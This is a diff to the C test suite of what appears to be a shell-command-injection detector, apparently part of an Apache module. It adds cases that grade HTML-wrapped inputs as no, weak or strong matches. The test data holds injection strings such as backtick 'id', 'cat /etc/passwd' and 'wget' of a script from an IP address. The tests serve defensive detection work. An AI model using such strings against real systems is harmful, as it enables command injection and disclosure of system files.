@@ -546,6 +546,15 @@ static void benign(void)
     STRONG("x\n<a b=\"`id`\">", "sh:`id");
     STRONG("<ul class=x>;id", "sh:;id");
     STRONG("cat</etc/passwd", "sh:cat");
+    /* a line of rich text that starts with markup: the command in it is
+     * typed there (as at the value's start); a lone command, a system
+     * path or a URL stay strong */
+    NONE("<!-- wp:code -->\n<pre class=\"wp-block-code\"><code>sudo systemctl "
+         "restart php8.2-fpm</code></pre>\n<!-- /wp:code -->");
+    WEAK("x\n<p>echo is not working, it prints $HOME literally</p>");
+    STRONG("x\n<b>id", "sh:\\nid");
+    STRONG("x\n<code>cat /etc/passwd</code>", "sh:\\ncat");
+    STRONG("x\n<b>wget http://198.51.100.7/x.sh</b>", "wget");
 }
 
 static void edges(apr_pool_t *p)
